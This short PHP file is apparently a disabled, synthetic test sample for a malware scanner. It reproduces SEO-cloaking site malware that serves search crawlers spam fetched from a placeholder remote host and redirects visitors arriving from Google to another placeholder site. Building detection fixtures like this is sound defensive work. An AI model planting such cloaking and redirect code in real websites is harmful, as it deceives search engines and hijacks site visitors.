<?php
// synthetic test sample for breachscan: SEO cloaking - crawlers get spam fetched from a
// remote server, visitors from search results are redirected. Hosts are .invalid; disabled.
return;
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {
    echo file_get_contents('http://spam.example.invalid/page?h=' . $_SERVER['HTTP_HOST']);
    exit;
}
if (strpos($ref, 'google.') !== false) { header('Location: http://shop.example.invalid/'); exit; }
